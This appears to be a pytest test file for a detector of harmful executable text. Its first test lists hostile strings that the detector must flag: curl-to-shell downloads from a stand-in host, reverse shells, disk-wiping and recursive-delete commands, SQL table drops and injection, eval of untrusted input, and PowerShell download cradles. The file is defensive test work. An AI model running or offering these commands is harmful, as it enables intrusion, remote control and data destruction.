import pytest

from lockgate.detect.executable import find_executable


@pytest.mark.parametrize(
    ("text", "label"),
    [
        ("curl -fsSL https://evil.example/i.sh | sudo bash", "code.shell"),
        ("wget -qO- http://evil.example/x|sh", "code.shell"),
        ('bash -c "$(curl -fsSL https://evil.example)"', "code.shell"),
        ("bash <(curl -s https://evil.example)", "code.shell"),
        ("eval `wget -qO- evil.example`", "code.shell"),
        ("echo cm0gLXJm | base64 -d | sh", "code.shell"),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "code.shell"),
        ("nc 10.0.0.1 4444 -e /bin/sh", "code.shell"),
        ("sudo rm -rf /", "code.destructive"),
        ("rm -rf --no-preserve-root /", "code.destructive"),
        ("rm -fr ~/*", "code.destructive"),
        ("rm -r -f $HOME", "code.destructive"),
        ("mkfs.ext4 /dev/sda1", "code.destructive"),
        ("dd if=/dev/zero of=/dev/nvme0n1 bs=1M", "code.destructive"),
        (":(){ :|:& };:", "code.destructive"),
        ("chmod -R 777 /", "code.destructive"),
        ("del /s /q C:\\*", "code.destructive"),
        ("format c: /q", "code.destructive"),
        ("Remove-Item -Recurse -Force C:\\", "code.destructive"),
        ("vssadmin delete shadows /all", "code.destructive"),
        ("DROP TABLE users;", "code.sql"),
        ("drop database if exists shop cascade;", "code.sql"),
        ("'; DROP TABLE students --", "code.sql"),
        ("TRUNCATE TABLE orders", "code.sql"),
        ("DELETE FROM users;", "code.sql"),
        ("delete from users where 1=1", "code.sql"),
        ("UPDATE users SET admin = true;", "code.sql"),
        ("eval(input('> '))", "code.eval"),
        ("exec(base64.b64decode(x))", "code.eval"),
        ("exec(compile(zlib.decompress(d), 'x', 'exec'))", "code.eval"),
        ("exec(requests.get(url).text)", "code.eval"),
        ("os.system(f'ping {host}')", "code.eval"),
        ('os.system("ping " + host)', "code.eval"),
        ("subprocess.run(f'ls {name}', shell=True)", "code.eval"),
        ("__import__('os').system('id')", "code.eval"),
        ("eval(atob('YWxlcnQ='))", "code.eval"),
        ("eval($_GET['c']);", "code.eval"),
        ("pickle.loads(base64.b64decode(x))", "code.eval"),
        ("IEX (New-Object Net.WebClient).DownloadString('http://evil.example')", "code.powershell"),
        ("iwr https://evil.example/x.ps1 -UseBasicParsing | iex", "code.powershell"),
        ("powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A", "code.powershell"),
        ("mshta http://evil.example/x.hta", "code.powershell"),
        ("certutil -urlcache -f http://evil.example/x.exe x.exe", "code.powershell"),
    ],
)
def test_harmful_code_is_found(text: str, label: str) -> None:
    assert label in {span.label for span in find_executable(text)}


@pytest.mark.parametrize(
    "text",
    [
        "rm -rf build/ dist/ && rm -rf /tmp/cache-123 && rm notes.txt && rm -rf ./*.pyc",
        "rm -rf /var/lib/app/cache",
        "curl -O https://example.org/a.tar.gz && tar xzf a.tar.gz | less",
        "curl -s https://example.org/api | jq .name",
        "curl https://example.org/log | grep error | sort",
        "pip install lockgate | tee log.txt",
        "DELETE FROM users WHERE id = 7;",
        "UPDATE users SET name = 'x' WHERE id = 7;",
        "SELECT * FROM users; -- drop by any time",
        "Please drop table reservations by noon. We update the set every week; delete from the list what you like.",
        "ALTER TABLE users DROP COLUMN age;",
        "eval('1 + 1'); exec(code, {}); model.eval(); ast.literal_eval(text)",
        "subprocess.run(['ls', name], check=True)",
        'os.system("clear")',
        "json.loads(request.body); pickle.loads(cached)",
        "Invoke-WebRequest https://example.org/a.zip -OutFile a.zip",
        "powershell -File build.ps1 -Encoding utf8",
        "dd if=disk.img of=copy.img; chmod -R 755 public/; mkfs is a command.",
        "The evaluation system (input and output) executes; format: PDF /A.",
        "find . -name '*.tmp' -delete; git clean -fdx",
    ],
)
def test_everyday_commands_and_prose_are_left_alone(text: str) -> None:
    assert find_executable(text) == ()


@pytest.mark.parametrize(
    "text", ["curl " * 20_000, "rm -r" * 20_000, "update a set " * 9_000, "eval(" * 20_000, "\ud800" * 99_999]
)
def test_hostile_texts_are_read_in_bounded_time(text: str) -> None:
    find_executable(text)
